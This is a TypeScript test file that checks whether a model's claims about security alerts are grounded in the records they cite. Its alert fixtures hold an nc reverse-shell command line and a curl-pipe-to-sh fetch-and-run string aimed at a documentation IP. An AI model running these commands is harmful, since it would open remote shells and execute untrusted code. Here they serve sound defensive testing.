/** What a model says becomes claims: values are found in the records it cites, whatever marks it puts around them, and nowhere else. */
import { expect, it } from 'vitest'
import { standingOf } from '../../domain/report.ts'
import { groundClaim, groundSaid } from '../../incidents/grounding.ts'
import type { RecordReader } from '../../incidents/grounding.ts'
import { noon, process_, storedAlert } from '../../test/support/records.ts'
import { cited, type Said, sentencesOf } from './cite.ts'

const [first, second] = ['019aa0f0-8d3c-7a51-9c11-4f0a52be8d01', '019aa0f0-8d3c-7a51-9c11-77d1c0a9e302']
const long = `curl -s http://203.0.113.7/${'a'.repeat(300)} | sh`
const alerts = [
  storedAlert(first, {
    eventNs: noon + 1_234_567n,
    rule: 'Run shell untrusted',
    process: process_({ cmdline: 'sh -c "nc -e /bin/sh 203.0.113.7 4444" `id`' }),
    fields: { 'user.uid': 0n, 'k8s.pod.name': 'checkout-6c9d8f7b5d-h2k4x', token: 'password=hunter2hunter2', hidden: 'ab\u202ecd', long },
  }),
  storedAlert(second, { eventNs: noon + 61_000_000_000n, rule: 'Read sensitive file untrusted' }),
]
const none = async () => undefined
const reader: RecordReader = {
  alert: async (id) => alerts.find((one) => one.id === id.toLowerCase()),
  entity: none,
  decision: async (id) =>
    id === 'd1'
      ? {
          id,
          at: new Date('2026-09-01T12:30:00Z'),
          principalId: 'p',
          reason: 'over',
          decision: { kind: 'state', incident: first, state: 'closed' },
          links: [],
        }
      : undefined,
  coverage: async (name) =>
    name === 'falco east 1' ? { name, collector: 'falco', scope: 'lab', lastSeenAt: new Date('2026-09-01T12:34:56.789Z') } : undefined,
  finding: none,
  step: none,
  incident: none,
  fielded: none,
}
const say = (text: string, cites: readonly string[] = [`alert:${first}`], kind: Said['kind'] = 'observation') =>
  cited({ text, kind, cites }, reader)
const holds = async (...given: Parameters<typeof say>) => (await groundClaim(await say(...given), reader)).grounded
const home = { scopes: new Set(['lab']) }
const standing = async (...given: Parameters<typeof say>) => standingOf(await groundSaid(await say(...given), reader, home))
const [one, both] = [[`alert:${first}`], [`alert:${first}`, `alert:${second}`]]

it.each([
  ['in our marks', 'The command ⟦nc -e /bin/sh 203.0.113.7 4444⟧ ran.'],
  ['as code', 'It tied `/bin/sh` to `203.0.113.7`.'],
  ['in the fences of tools', 'Rule ⟪Run shell untrusted⟫ fired.'],
  ['with a backtick within', 'It ran ⟦sh -c "nc -e /bin/sh 203.0.113.7 4444" `id`⟧.'],
  ['that is a name with a hash in it', 'Pod checkout-6c9d8f7b5d-h2k4x was entered.'],
  ['in quotation marks', 'It ran “nc -e /bin/sh 203.0.113.7 4444,” and "/bin/sh".'],
  ['that is a day', 'It began on 2026-09-01.'],
  ['in plain words', 'A shell was tied to 203.0.113.7 on port 4444 by user 0.'],
  ['as a time of day', 'At ⟦12:00:00⟧ it began.'],
  ['as a time with its zone', 'At ⟦2026-09-01 12:00:00 UTC⟧ and `12:00:00Z` it began.'],
  ['masked, as tools show it', 'It holds ⟦password=[redacted]⟧.'],
  ['escaped, as tools show it', 'It holds ⟦ab\\u{202e}cd⟧.'],
  ['cut, as tools show it', `It ran ⟦${long.slice(0, 200)}… [${long.length - 200} more]⟧.`],
  ['shortened', `It ran ⟦${long.slice(0, 150)}⟧…`],
])('finds a value %s', async (_how, text) => {
  expect(await holds(text)).toBe(true)
})

it.each([
  ['of another record', 'Rule ⟦Read sensitive file untrusted⟧ fired.'],
  ['changed by a digit', 'It tied a shell to ⟦203.0.113.8⟧.'],
  ['changed by a digit in plain words', 'It tied a shell to 203.0.113.8.'],
  ['that is another port', 'A shell was tied to port 4445.'],
  ['that was counted', 'There were 507 alerts.'],
  ['in quotation marks', 'It ran “nc -l 4444”.'],
  ['in marks of typewriters', 'It ran "nc -l 4444".'],
  ['that is a day', 'It began on 2026-09-02.'],
  ['cut elsewhere', `It ran ⟦${long.slice(0, 90)}… [${long.length - 91} more]⟧.`],
  ['that is a name with another hash in it', 'Pod checkout-6c9d8f7b5e-h2k4x was entered.'],
  ['that is a name', 'Pod checkout-7d9f was entered.'],
  ['that is a name of two parts', 'The deployment shop/checkout was entered.'],
  ['that is a flaw', 'CVE-2021-44228 was used.'],
  ['that is another time', 'At ⟦12:00:01⟧ it began.'],
  ['left open', 'It ran ⟦sh.'],
])('makes a hypothesis of a value %s', async (_how, text) => {
  expect(await holds(text)).toBe(false)
})

it('takes citations as models write them, and no others', async () => {
  for (const cite of [
    first,
    `alert:${first}`,
    `alert ${first}`,
    `[alert ${first.toUpperCase()}]`,
    `⟪alert ${first} rule⟫`,
    `\`alert/${first}\``,
  ])
    expect(await holds('Rule ⟦Run shell untrusted⟧ fired.', [cite]), cite).toBe(true)
  for (const cite of ['', 'alert:', 'alert:rule', `finding:${first}`, `alert:${second}`, 'the first alert'])
    expect(await holds('Rule ⟦Run shell untrusted⟧ fired.', [cite]), cite).toBe(false)
  expect(await holds('Nothing more was seen.', ['coverage:falco east 1'], 'absence')).toBe(true)
  expect(await holds('Nothing more was seen since ⟦2026-09-01T12:34:56⟧.', ['coverage:falco east 1'], 'absence')).toBe(true)
  expect(await holds('Nothing more was seen.', ['coverage:falco east 2'], 'absence')).toBe(false)
  expect(await holds('One led to the other.', [`alert:${first}`, `alert:${second}`], 'causal')).toBe(true)
  expect(await holds('One led to the other.', [`alert:${first}`, `alert:${first.toUpperCase()}`], 'causal')).toBe(false)
})

it('keeps plain words plain where a record bears them out, and cites where it stands', async () => {
  const claim = await say('A shell was tied to 203.0.113.7 on port 4444.')
  expect(claim.text).toBe('A shell was tied to 203.0.113.7 on port 4444.')
  expect(claim.evidence.map(({ path }) => path)).toEqual(['process.cmdline'])
})

it('finds what kind of decision it was', async () => {
  expect(await holds('A person decided on its ⟦state⟧: ⟦over⟧.', ['decision:d1'])).toBe(true)
  expect(await holds('A person decided on its ⟦verdict⟧: ⟦over⟧.', ['decision:d1'])).toBe(false)
})

it.each<Said['kind']>(['observation', 'causal', 'absence', 'inference'])(
  'calls a lie that quotes nothing, said as %s, a judgement',
  async (kind) => {
    const cites = [...both, 'coverage:falco east 1']
    for (const text of ['The attacker was an insider from the finance team.', 'This is a targeted campaign.', 'It is over.'])
      expect(await standing(text, cites, kind), text).toBe('judgement')
    expect(await standing('Rule ⟦Run shell untrusted⟧ shows an intruder.', cites, kind)).toBe('confirmed')
    expect(await standing('Rule ⟦Run no shell⟧ shows an intruder.', cites, kind)).toBe('hypothesis')
  },
)

it('takes each sentence for itself, so that none is carried by the next', async () => {
  const said = { kind: 'inference' as const, cites: one }
  const texts = (text: string) => sentencesOf({ ...said, text }).map((each) => each.text)
  expect(texts('It was an insider. Rule ⟦Run shell. Untrusted⟧ fired! ⟦nc⟧ ran, e.g. `sh. So`… and 10.0.0.1.')).toEqual([
    'It was an insider.',
    'Rule ⟦Run shell. Untrusted⟧ fired!',
    '⟦nc⟧ ran, e.g. ⟦sh. So⟧… and 10.0.0.1.',
  ])
  expect(texts('  ')).toEqual([])
  const each = sentencesOf({ ...said, text: 'It was an insider of finance. Rule ⟦Run shell untrusted⟧ fired.' })
  expect(await Promise.all(each.map(({ text, cites, kind }) => standing(text, cites, kind)))).toEqual(['judgement', 'confirmed'])
})

it.each([
  ['Two alerts came of ⟦root⟧.', both],
  ['2 alerts came of ⟦root⟧.', both],
  ['Both, the first and the second alert, are of ⟦root⟧.', both],
  ['Two rules fired, ⟦Run shell untrusted⟧ and ⟦Read sensitive file untrusted⟧.', both],
  ['Two steps, ⟦sh⟧ and ⟦root⟧.', one],
  ['It ran twice, of ⟦root⟧.', both],
  ['One minute later rule ⟦Read sensitive file untrusted⟧ fired.', both],
  ['About sixty seconds later, and within two minutes, rule ⟦Read sensitive file untrusted⟧ fired.', both],
  ['At least one of them ran once as ⟦root⟧, a second later, for a third party, at first, by a zero-day.', one],
  ['It is the seven-zip of ⟦root⟧, in a three-way handshake.', one],
  ['Port 4444 and user 0 of ⟦root⟧.', one],
])('keeps a number that records bear out: %s', async (text, cites) => {
  expect(await standing(text, cites)).toBe('confirmed')
})

it.each([
  ['Two pods, of ⟦root⟧, were entered.', one],
  ['Three alerts came of ⟦root⟧.', both],
  ['3 alerts came of ⟦root⟧.', both],
  ['A dozen alerts came of ⟦root⟧.', both],
  ['Five hundred and seven alerts came of ⟦root⟧.', both],
  ['Twenty-two alerts came of ⟦root⟧.', both],
  ['Hundreds of alerts came of ⟦root⟧.', both],
  ['More than ten alerts came of ⟦root⟧.', both],
  ['The third alert is of ⟦root⟧.', both],
  ['A second intruder, ⟦root⟧, came.', one],
  ['It ran thrice, of ⟦root⟧.', both],
  ['Zero alerts came of ⟦root⟧.', both],
  ['Twelve minutes later rule ⟦Read sensitive file untrusted⟧ fired.', both],
  ['Within ten seconds rule ⟦Read sensitive file untrusted⟧ fired.', both],
  ['One hour later rule ⟦Read sensitive file untrusted⟧ fired.', both],
  ['It ran as ⟦root⟧ on port 1.', one],
])('makes a hypothesis of a number that they do not: %s', async (text, cites) => {
  expect(await standing(text, cites)).toBe('hypothesis')
})

it.each([
  'Namespace finance holds what ⟦root⟧ wanted.',
  'They moved as ⟦root⟧ to the payments namespace.',
  'Pod frontend was entered by ⟦root⟧.',
  'User alice became ⟦root⟧.',
  'User bob-the-builder became ⟦root⟧.',
  'In cluster production it was ⟦root⟧.',
  'It was ⟦root⟧ in the production cluster.',
  'Deployment shорр was entered by ⟦root⟧.',
  'Pod сheckout-6c9d8f7b5d-h2k4x was entered by ⟦root⟧.',
  'There were ５０７ alerts of ⟦root⟧.',
  'The pay\u200bments team is ⟦root⟧.',
])('makes a hypothesis of a name that no record holds: %s', async (text) => {
  expect(await standing(text)).toBe('hypothesis')
})

it.each([
  'User root ran it, as the pod started, in cluster lab, for ⟦root⟧ is privileged there.',
  'The same namespace, and the whole cluster, are open to ⟦root⟧: a naïve, so-called clean image.',
  'It was seen on node node-1 by ⟦root⟧; a pod may read secrets, a user can log in.',
])('keeps names that records hold, and ordinary words: %s', async (text) => {
  expect(await standing(text)).toBe('confirmed')
})

it('wants to be told where a record of elsewhere is from', async () => {
  const elsewhere = {
    ...reader,
    alert: async (id: string) => alerts.map((alert) => ({ ...alert, scope: 'prod' })).find((each) => each.id === id),
  }
  const of = async (text: string, about: Parameters<typeof groundSaid>[2]) =>
    standingOf(await groundSaid(await cited({ text, kind: 'observation', cites: one }, elsewhere), elsewhere, about))
  const [hidden, told] = ['Rule ⟦Run shell untrusted⟧ fired.', 'In cluster ⟦prod⟧ rule ⟦Run shell untrusted⟧ fired.']
  expect(await of(hidden, home)).toBe('hypothesis')
  expect(await of('In prod-2 rule ⟦Run shell untrusted⟧ fired.', home)).toBe('hypothesis')
  for (const text of [hidden, told]) expect(await of(text, { scopes: null })).toBe('confirmed')
  expect(await of(told, home)).toBe('confirmed')
  const mixed = {
    ...reader,
    alert: async (id: string) =>
      alerts.map((alert) => ({ ...alert, scope: alert.id === first ? 'prod' : 'lab' })).find((each) => each.id === id),
  }
  for (const [text, wanted] of [
    ['⟦Run shell untrusted⟧ and ⟦Read sensitive file untrusted⟧ fired.', 'hypothesis'],
    ['⟦Run shell untrusted⟧ fired in prod, ⟦Read sensitive file untrusted⟧ in lab.', 'confirmed'],
  ] as const)
    expect(
      standingOf(await groundSaid(await cited({ text, kind: 'observation', cites: both }, mixed), mixed, { scopes: null })),
      text,
    ).toBe(wanted)
  const other = { ...home, scopes: null, otherIncidentOf: async () => '019aa0f0-8d3c-7a51-9c11-4f0a52be8d77' }
  expect(await of(hidden, other)).toBe('hypothesis')
  expect(await of('As inc-114f0a52be shows, rule ⟦Run shell untrusted⟧ fired.', other)).toBe('hypothesis')
})
